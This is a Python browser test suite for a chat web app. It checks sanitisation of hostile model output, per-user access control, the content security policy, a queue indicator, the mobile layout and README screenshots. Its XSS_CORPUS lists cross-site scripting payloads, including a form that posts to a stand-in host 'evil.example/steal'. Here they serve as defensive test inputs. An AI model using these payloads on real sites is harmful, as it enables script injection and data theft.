"""What the chat page must hold up against, in headless chromium: hostile
model output, other users' conversations, the CSP on every page (admin and
allauth included), a crowded queue and a phone-sized screen. It also takes
the README's screenshots."""

from __future__ import annotations

import os
import threading
from pathlib import Path

import pytest

from apiproxy.catalog import catalog
from catalog.models import Backend
from chat.services import conversation_create, conversation_turn_start
from chat.tests.conftest import ChatBrowser
from tests.factories import user_make

pytestmark = pytest.mark.browser

SCREENSHOTS = Path(__file__).resolve().parents[2] / "docs" / "screenshots"
EVIL = "https://evil.example"

# Model output that tries every way we know to run code or load a remote
# resource. Each line must come out inert.
XSS_CORPUS = f"""Here you go.

<script>alert('script tag')</script>
<img src=x onerror="alert('onerror')">
<img src="{EVIL}/pixel.png">
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<iframe src="{EVIL}/frame"></iframe>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/x.swf">
<a href="javascript:alert('html link')">html link</a>
<details open ontoggle="alert('ontoggle')">d</details>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')>
<style>body {{ background: url({EVIL}/bg.png) }}</style>
<link rel="stylesheet" href="{EVIL}/x.css">
<meta http-equiv="refresh" content="0;url=javascript:alert('meta')">
<form action="{EVIL}/steal"><button>go</button></form>
<base href="{EVIL}/">

[markdown link](javascript:alert('markdown link'))
[mixed case](JaVaScRiPt:alert('mixed case'))
[data link](data:text/html,<script>alert('data')</script>)
![remote image]({EVIL}/tracker.png)
![relative image](/static/css/portico.css)
<{EVIL}/autolink>

```html
<script>alert('inside a fence')</script>
<img src=x onerror=alert('fence img')>
```

Math that tries links: $\\href{{javascript:alert('tex')}}{{click}}$ and $x^2$.
"""


def _assert_inert(browser: ChatBrowser) -> None:
    page = browser.page
    pane = page.locator("#messages")
    for selector in (
        "script",
        "iframe",
        "object",
        "embed",
        "svg",
        "style",
        "link",
        "meta",
        "form",
        "base",
        "details",
        "[onerror]",
        "[onload]",
        "[ontoggle]",
        "[style]",
        "a[href^='javascript' i]",
        "a[href^='data' i]",
        "img:not([src^='data:'])",
    ):
        assert pane.locator(selector).count() == 0, selector
    text = pane.inner_text()
    assert "<script>alert('script tag')</script>" in text, "shown as text"
    assert "<script>alert('inside a fence')</script>" in text
    remote = pane.locator(f"a.image-link[href='{EVIL}/tracker.png']")
    assert remote.count() == 1, "a remote image is a link"
    assert remote.get_attribute("rel") == "noopener noreferrer nofollow"
    browser.assert_nothing_escaped()


def test_hostile_model_output_renders_inert(chat_browser: ChatBrowser) -> None:
    rig, page = chat_browser.rig, chat_browser.page
    rig.backend.behaviour.text = XSS_CORPUS
    chat_browser.login(rig.alice)
    chat_browser.open()
    chat_browser.send("Show me some HTML")
    chat_browser.wait_idle()
    _assert_inert(chat_browser)
    page.reload()  # the stored answer, rendered afresh
    page.wait_for_selector("#chat.ready")
    _assert_inert(chat_browser)


def test_the_sanitiser_alone_also_stops_raw_html(chat_browser: ChatBrowser) -> None:
    """The markdown step already shows raw HTML as text; DOMPurify behind it
    must hold on its own, in case a renderer ever lets markup through."""
    rig, page = chat_browser.rig, chat_browser.page
    chat_browser.login(rig.alice)
    chat_browser.open()
    html = page.evaluate(
        """(corpus) => {
            const box = document.createElement("div");
            box.appendChild(window.PorticoRender.sanitize(corpus));
            document.getElementById("messages").appendChild(box);
            return box.innerHTML;
        }""",
        XSS_CORPUS.replace("\n", "<br>"),
    )
    for bad in (
        "<script",
        "onerror",
        "onload",
        "ontoggle",
        "<iframe",
        "<svg",
        "<style",
        "<form",
        "javascript:",
        EVIL + '/pixel.png"',
    ):
        assert bad not in html.replace(f'href="{EVIL}/pixel.png"', ""), bad
    assert f'href="{EVIL}/pixel.png"' in html, "the remote image became a link"
    # DOMPurify parses raw markup in an inert document, which inherits the
    # page's policy: Chrome reports the handlers it would never run there.
    # Those reports are the only trace; nothing ran and nothing loaded.
    assert not chat_browser.dialogs
    assert not chat_browser.remote_requests


def test_a_stranger_gets_404_for_anothers_conversation(
    chat_browser: ChatBrowser,
) -> None:
    rig, page = chat_browser.rig, chat_browser.page
    secret = conversation_create(
        user=rig.alice, title="Alice's grant", model="fake-chat"
    )
    bob = user_make(username="bob")
    chat_browser.login(bob)
    response = chat_browser.open(f"/chat/{secret.pk}/")
    assert response.status == 404
    api = page.request.get(rig.url + f"/api/conversations/{secret.pk}/")
    assert api.status == 404
    chat_browser.open()
    assert "Alice's grant" not in page.inner_text("#conversation-list")


def test_admin_and_allauth_pages_work_under_the_policy(
    chat_browser: ChatBrowser,
) -> None:
    rig, page = chat_browser.rig, chat_browser.page
    response = page.goto(rig.url + "/accounts/login/")
    assert "script-src 'self'" in response.headers["content-security-policy"]
    page.goto(rig.url + "/accounts/signup/")
    operator = user_make(username="operator", is_staff=True, is_superuser=True)
    chat_browser.login(operator)
    page.goto(rig.url + "/admin/")
    assert page.locator("#content").is_visible()
    # The user form's group and permission pickers are built by the admin's
    # JavaScript (SelectFilter2): they only appear if its scripts may run.
    page.goto(rig.url + f"/admin/accounts/user/{rig.alice.pk}/change/")
    page.wait_for_selector(".selector-available")
    page.goto(rig.url + "/admin/catalog/model/add/")
    page.wait_for_selector("input[name=public_id]")
    chat_browser.assert_nothing_escaped()


def test_a_waiting_answer_shows_its_place_in_line(chat_browser: ChatBrowser) -> None:
    rig, page = chat_browser.rig, chat_browser.page
    Backend.objects.filter(name="fake").update(max_concurrency=1)
    catalog.invalidate()
    # The first request holds the only slot for a while (its first byte is
    # late), whatever the machine's load; the browser's waits behind it.
    rig.backend.script({"first_byte_delay": 5.0})
    holder = threading.Thread(
        target=lambda: rig.proxy.openai().chat.completions.create(
            model="fake-chat", messages=[{"role": "user", "content": "hold"}]
        )
    )
    chat_browser.login(rig.alice)
    chat_browser.open()
    holder.start()
    assert rig.backend.wait_for(
        lambda f: bool(f.requests("/v1/chat/completions")), timeout=5
    )
    chat_browser.send("hi")
    page.wait_for_selector(".waiting:has-text('1st in line')")
    chat_browser.wait_idle()
    holder.join(timeout=10)
    assert chat_browser.answer().inner_text().startswith("tok0")


def test_on_a_phone_the_conversations_slide_in(chat_browser: ChatBrowser) -> None:
    rig, page = chat_browser.rig, chat_browser.page
    conversation_create(user=rig.alice, title="On the bus", model="fake-chat")
    page.set_viewport_size({"width": 390, "height": 844})
    chat_browser.login(rig.alice)
    chat_browser.open()
    link = page.locator(".conversation-link", has_text="On the bus")
    assert not link.is_visible() or link.bounding_box()["x"] < 0
    assert page.locator("#prompt").is_visible()
    page.click("#sidebar-toggle")
    page.wait_for_timeout(300)  # the slide-in transition
    box = link.bounding_box()
    assert box is not None and box["x"] >= 0
    width = page.evaluate("document.documentElement.scrollWidth")
    assert width <= 390, "nothing overflows sideways"


SAMPLE_ANSWER = r"""Ants combine a **sun compass** with *path integration*:
they keep a running sum of every step, so the way home is one vector.

```python
def home_vector(steps):
    return -sum(steps)
```

The estimate drifts with distance $d$ roughly as $\sigma \propto \sqrt{d}$:

$$\hat{h} = -\sum_{i=1}^{n} \vec{s}_i$$
"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_takes_the_readme_screenshots(
    chat_browser: ChatBrowser, scheme: str, tmp_path: Path
) -> None:
    """Into docs/screenshots/ with PORTICO_UPDATE_SCREENSHOTS=1 (then commit
    them); otherwise into a temporary folder, so a test run leaves the
    checkout as it was."""
    rig, page = chat_browser.rig, chat_browser.page
    page.emulate_media(color_scheme=scheme)
    page.set_viewport_size({"width": 1200, "height": 760})
    for title in ("Protein folding notes", "Grant proposal outline"):
        conversation_create(user=rig.alice, title=title, model="fake-chat")
    conversation = conversation_create(
        user=rig.alice, title="How do ants find home?", model="fake-chat"
    )
    conversation_turn_start(
        conversation=conversation,
        action="send",
        content="How do desert ants find their way home?",
    )
    rig.backend.behaviour.text = SAMPLE_ANSWER
    chat_browser.login(rig.alice)
    chat_browser.open(f"/chat/{conversation.pk}/")
    chat_browser.mark()
    page.click("[data-act=regenerate]")
    chat_browser.wait_idle()
    page.wait_for_selector(".msg.assistant math")
    folder = SCREENSHOTS if os.environ.get("PORTICO_UPDATE_SCREENSHOTS") else tmp_path
    folder.mkdir(parents=True, exist_ok=True)
    shot = folder / f"chat-{scheme}.png"
    page.screenshot(path=str(shot))
    assert shot.read_bytes().startswith(b"\x89PNG")
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (background == "rgb(17, 20, 24)") == (scheme == "dark")
    chat_browser.assert_nothing_escaped()
